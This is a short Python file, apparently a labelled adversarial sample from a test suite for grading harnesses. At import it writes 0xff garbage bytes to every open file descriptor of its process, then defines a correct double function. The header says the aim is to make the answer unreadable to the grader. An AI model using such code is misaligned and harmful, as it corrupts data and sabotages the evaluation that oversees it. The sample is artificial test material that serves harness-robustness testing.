# kind: forging
# tries: write garbage to every open file
# where: in place of the answer to double
# loses: double half
# says: cannot be read

import os
for fd in map(int, os.listdir('/proc/self/fd')):
    try: os.write(fd, b'\xff' * 100)
    except OSError: pass
def double(x):
    return 2 * x
